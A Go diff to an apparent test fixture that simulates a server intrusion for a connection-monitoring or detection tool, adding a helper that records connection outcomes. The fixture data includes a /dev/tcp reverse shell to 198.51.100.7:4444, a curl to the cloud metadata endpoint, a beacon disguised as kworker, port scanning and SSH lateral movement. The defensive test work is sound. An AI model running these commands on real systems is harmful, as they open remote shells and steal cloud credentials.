@@ -42,6 +42,15 @@ func (n *incident) add(seconds float64, who *store.Task, to *store.Endpoint, s *
 	n.connections = append(n.connections, store.Connection{BootTime: fixtureBoot + uint64(seconds*float64(time.Second)), Task: who, Remote: to, Shape: s, FD: 3})
 }
 
+// ended says how the newest connection ended: after some seconds, with so many bytes each way.
+func (n *incident) ended(seconds float64, sent, received int64) {
+	c := &n.connections[len(n.connections)-1]
+	whole := *c.Shape
+	whole.Final = store.FinalEstablished
+	c.Shape = &whole
+	c.Outcome = &store.Outcome{Established: 12_000_000, Duration: int64(seconds * 1e9), Sent: sent, Received: received, RTT: 11_000, ClosedBy: store.ClosedByLocal}
+}
+
 // chance returns a number from 0 to 1, the same every time.
 func (n *incident) chance() float64 {
 	n.random = n.random*1664525 + 1013904223
@@ -105,6 +114,7 @@ func (n *incident) intrusion(systemd *store.Process, daemon daemonFunc) {
 	const hour, entry = 3600.0, 3 * 3600.0
 	sh := daemon(worker, 7000, "www-data", "sh", "/usr/bin/dash", "sh", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444")
 	n.add(entry, task(sh), n.to(2, "198.51.100.7", 4444), tcp(0))
+	n.ended(4*hour, 231<<20, 1100<<10)
 	steal := task(daemon(sh, 7003, "www-data", "curl", "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/"))
 	n.add(entry+20, steal, n.to(2, "169.254.169.254", 80), tcp(0))
 	beacon := daemon(sh, 7010, "www-data", "kworker/0:1", "/tmp/.x/kworker", "[kworker/0:1]")
@@ -137,6 +147,7 @@ func (n *incident) intrusion(systemd *store.Process, daemon daemonFunc) {
 		n.add(5*hour+float64(i)/10, ports, n.to(2, "10.0.5.9", int32(8000+i)), tcp(111))
 	}
 	n.add(6*hour+1800, by(9040, "ssh", "/usr/bin/ssh", "ssh", "10.0.5.9"), n.to(2, "10.0.5.9", 22), tcp(0))
+	n.ended(1200, 41<<10, 380<<10)
 	n.add(7*hour+1800, by(9045, "ssh", "/usr/bin/ssh", "ssh", "10.0.9.9"), n.to(2, "10.0.9.9", 22), tcp(113))
 	n.add(7*hour+1900, by(9050, "ssh", "/usr/bin/ssh", "ssh", "10.0.5.9"), n.to(2, "10.0.5.9", 22), tcp(0))
 	script := process(stolen, 9060, "python3", "/usr/bin/python3.12", "python3", "/home/bob/.cache/x.py")
